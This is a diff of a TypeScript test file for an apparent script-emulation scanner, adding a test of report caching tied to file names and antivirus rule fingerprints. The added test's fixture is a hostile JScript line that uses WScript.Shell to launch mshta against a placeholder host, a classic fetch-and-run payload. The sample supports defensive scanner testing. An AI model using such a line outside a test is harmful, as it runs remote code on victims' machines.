@@ -181,8 +181,8 @@ describe('bounds', () => {
     const gone = new AbortController();
     await busy.inspect(code('1'), JS); // the thread runs
     const running = busy.inspect(code('for (;;);'), JS, gone.signal);
-    const waiting = busy.inspect(code('1'), JS);
-    await expect(busy.inspect(code('1'), JS)).rejects.toMatchObject({ code: 'ERR_SCAN_UNAVAILABLE' });
+    const waiting = busy.inspect(code('3'), JS);
+    await expect(busy.inspect(code('2'), JS)).rejects.toMatchObject({ code: 'ERR_SCAN_UNAVAILABLE' });
     gone.abort();
     await expect(running).rejects.toMatchObject({ code: 'ERR_ABORTED' });
     expect(await waiting).toEqual({ kind: 'allow' });
@@ -240,4 +240,28 @@ describe('options', () => {
     });
     expect(await te.inspect(text, JS)).toEqual({ kind: 'allow' });
   });
+});
+
+test('the same content is not emulated again, until the rules of anti-virus change or its name does', async () => {
+  let rules = 'one';
+  const antivirus: Blade = {
+    name: 'antivirus',
+    fingerprint: () => rules,
+    inspect: () => ({ kind: 'allow' }),
+  };
+  await using own = await emulationBlade({}, antivirus);
+  const script = code('new ActiveXObject("WScript.Shell").Run("mshta http://host.invalid/a", 0);');
+  const report = async (name: string): Promise<string> => {
+    const verdict = await own.inspect(script, { 'content-disposition': `attachment; filename="${name}"` });
+    return verdict.kind === 'block' ? (verdict.report ?? '') : verdict.kind;
+  };
+  const first = await report('a.js');
+  expect(first).toMatch(/^te-/);
+  expect(await report('a.js')).toBe(first);
+  const renamed = await report('b.js');
+  expect(renamed).not.toBe(first);
+  const before = own.blade.fingerprint!();
+  rules = 'two';
+  expect(own.blade.fingerprint!()).not.toBe(before);
+  expect(await report('a.js')).not.toBe(first);
 });
